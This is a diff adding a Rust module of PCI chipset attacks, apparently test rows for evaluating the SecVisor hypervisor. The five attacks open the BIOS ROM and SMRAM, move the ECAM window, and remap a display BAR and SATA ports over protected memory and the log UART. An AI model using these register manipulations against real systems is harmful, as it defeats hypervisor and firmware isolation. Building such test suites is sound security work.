@@ -1,0 +1,100 @@
+//! Chipset and device registers that lay other memory, or other ports, over what SecVisor relies on.
+
+use super::hardware::{call, mark};
+use super::{Attack, Plan};
+use crate::cpu::{inl, outl};
+use crate::devices::{PCI_DATA, pci_read, pci_write};
+use crate::memory::{MARKER, peek, peek32, poke};
+use crate::modules;
+use crate::trap::symbol;
+
+/// Functions of bus 0: the host bridge, and Q35's SATA controller with its I/O ports: where they are
+/// said, and the index of the registers that are reached by them.
+const HOST_BRIDGE: u32 = 0;
+const STORAGE: u32 = 0x1F << 3 | 2;
+const STORAGE_PORTS: u32 = 0x20;
+const STORAGE_INDEX: u16 = 0x10;
+const COMMAND: u32 = 4;
+const FIRST_BASE: u32 = 0x10;
+/// Classes of display controllers.
+const DISPLAY: u32 = 3;
+
+/// In the BIOS's ROM, which the host bridge write-protects by its first PAM register.
+const ROM: u64 = 0xF_8000;
+const PAM: u32 = 0x90;
+const PAM_OPEN: u32 = 0x30;
+/// The host bridge's SMRAM register, as part of its word: SMRAM is open.
+const SMRAM: u32 = 0x9C;
+const SMRAM_OPEN: u32 = 1 << 14;
+/// Where memory-mapped configuration is, with bit 0 set; and where it could be.
+const PCIEXBAR: u32 = 0x60;
+const OTHER_ECAM: u64 = 0xD000_0000;
+
+/// Around the UART that SecVisor logs to.
+const LOG: u64 = 0x2E0;
+
+extern "C" fn open_rom(address: u64) {
+    pci_write(HOST_BRIDGE, PAM, pci_read(HOST_BRIDGE, PAM) | PAM_OPEN);
+    poke(address, MARKER);
+}
+
+extern "C" fn open_smram(_: u64) {
+    pci_write(HOST_BRIDGE, SMRAM, pci_read(HOST_BRIDGE, SMRAM) | SMRAM_OPEN);
+    if pci_read(HOST_BRIDGE, SMRAM) & SMRAM_OPEN != 0 {
+        mark();
+    }
+}
+
+extern "C" fn move_ecam(address: u64) {
+    let home = pci_read(HOST_BRIDGE, PCIEXBAR);
+    pci_write(HOST_BRIDGE, PCIEXBAR, address as u32 | 1);
+    if peek32(address) == pci_read(HOST_BRIDGE, 0) {
+        mark();
+    }
+    pci_write(HOST_BRIDGE, PCIEXBAR, home);
+}
+
+/// Moves the display's memory, with the marker in its first word, over RAM.
+extern "C" fn cover_memory(address: u64) {
+    let class = |function: &u32| pci_read(*function, 8) >> 24 == DISPLAY;
+    let display = (0..256).find(class).unwrap_or(0);
+    let home = pci_read(display, FIRST_BASE);
+    poke(u64::from(home & !0xF), MARKER);
+    pci_write(display, FIRST_BASE, address as u32);
+    let found = peek(address);
+    pci_write(display, FIRST_BASE, home);
+    if found == MARKER {
+        mark();
+    }
+}
+
+/// Moves a device's ports over the UART of SecVisor's log, whose neighbours show it, then does what
+/// SecVisor tells there.
+extern "C" fn cover_log(ports: u64) {
+    let home = [STORAGE_PORTS, COMMAND].map(|register| pci_read(STORAGE, register));
+    pci_write(STORAGE, STORAGE_PORTS, ports as u32 | 1);
+    pci_write(STORAGE, COMMAND, home[1] | 1);
+    let index = ports as u16 + STORAGE_INDEX;
+    outl(index, 0x40);
+    if inl(index) == 0x40 {
+        mark();
+    }
+    modules::release(symbol!(text_start));
+    pci_write(STORAGE, STORAGE_PORTS, home[0]);
+    pci_write(STORAGE, COMMAND, home[1]);
+}
+
+/// The rows.
+pub const ROWS: &[Attack] = &[
+    Attack {
+        name: "pci-rom-opened",
+        plan: |_| Plan { witness: ROM, ..call(PCI_DATA.into(), open_rom, ROM) },
+    },
+    Attack { name: "pci-smram-opened", plan: |_| call(PCI_DATA.into(), open_smram, 0) },
+    Attack { name: "pci-ecam-moved", plan: |_| call(PCI_DATA.into(), move_ecam, OTHER_ECAM) },
+    Attack {
+        name: "pci-display-over-text",
+        plan: |_| call(symbol!(text_start), cover_memory, symbol!(text_start) & !0xFF_FFFF),
+    },
+    Attack { name: "pci-ports-over-log", plan: |_| call(LOG, cover_log, LOG) },
+];
